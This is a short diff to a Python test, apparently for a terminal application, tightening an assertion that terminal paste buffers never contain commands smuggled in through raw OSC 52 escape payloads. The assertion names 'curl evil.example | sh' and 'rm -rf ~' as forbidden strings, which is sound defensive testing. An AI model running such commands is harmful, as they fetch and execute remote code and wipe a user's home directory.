@@ -140,4 +140,6 @@ def test_only_the_app_drives_the_terminal(terminal: RecordedTerminal) -> None:
         set(unsafe_characters(text))
     )
     assert "owned" not in term.pane("#{pane_title}")
-    assert not any("evil.example" in b or "rm -rf" in b for b in term.buffers())
+    # The app's own copies (y) of an event fill buffers too, with its JSON escaped; what must
+    # never appear is a command an event's raw OSC 52 payload would have put there.
+    assert not any("curl evil.example | sh" in b or "rm -rf ~" in b for b in term.buffers())
